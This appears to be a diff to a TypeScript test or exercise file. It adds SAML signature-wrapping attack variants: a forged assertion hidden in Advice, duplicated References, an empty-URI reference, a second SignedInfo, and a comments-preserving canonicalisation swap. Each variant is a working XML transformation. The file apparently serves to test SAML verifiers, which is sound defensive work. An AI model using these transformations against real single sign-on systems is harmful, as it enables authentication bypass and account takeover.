@@ -1,4 +1,14 @@
-import { bare, changed, forged, forgedResponse, inExtensions, signatureIn, wrapped, type SamlAttack } from "./saml-attack-kit.ts";
+import {
+  bare,
+  changed,
+  forged,
+  forgedResponse,
+  inExtensions,
+  saying,
+  signatureIn,
+  wrapped,
+  type SamlAttack,
+} from "./saml-attack-kit.ts";
 
 /** Signature wrapping, XSW 1 to 8, as SAML Raider does it. The first two need a signed response. */
 export const wrappingAttacks: readonly SamlAttack[] = [
@@ -72,5 +82,34 @@ export const wrappingAttacks: readonly SamlAttack[] = [
     title: "a signature in the subject",
     check: "signature",
     answer: changed((xml) => xml.replace(signatureIn(xml), "").replace("</saml:Subject>", `${signatureIn(xml)}</saml:Subject>`)),
+  },
+  {
+    title: "an assertion in the advice of the signed one",
+    check: "assertion",
+    answer: saying({
+      change: (one) => one.replace("<saml:AuthnStatement", `<saml:Advice>${forged(one)}</saml:Advice><saml:AuthnStatement`),
+    }),
+  },
+  {
+    title: "two references in the signature",
+    check: "signature",
+    answer: changed((xml) => xml.replace(/<ds:Reference .*<\/ds:Reference>/s, "$&$&")),
+  },
+  {
+    title: "a reference to the whole document",
+    check: "signature",
+    answer: changed((xml) => xml.replace(/<ds:Reference URI="[^"]+"/, '<ds:Reference URI=""')),
+  },
+  {
+    title: "a second SignedInfo",
+    check: "signature",
+    answer: changed((xml) =>
+      xml.replace(/<ds:SignedInfo>.*<\/ds:SignedInfo>/s, (info) => info.replaceAll(/_a[\w-]+/g, "_x") + info),
+    ),
+  },
+  {
+    title: "a canonical form with comments",
+    check: "signature",
+    answer: changed((xml) => xml.replaceAll('xml-exc-c14n#"', 'xml-exc-c14n#WithComments"')),
   },
 ];
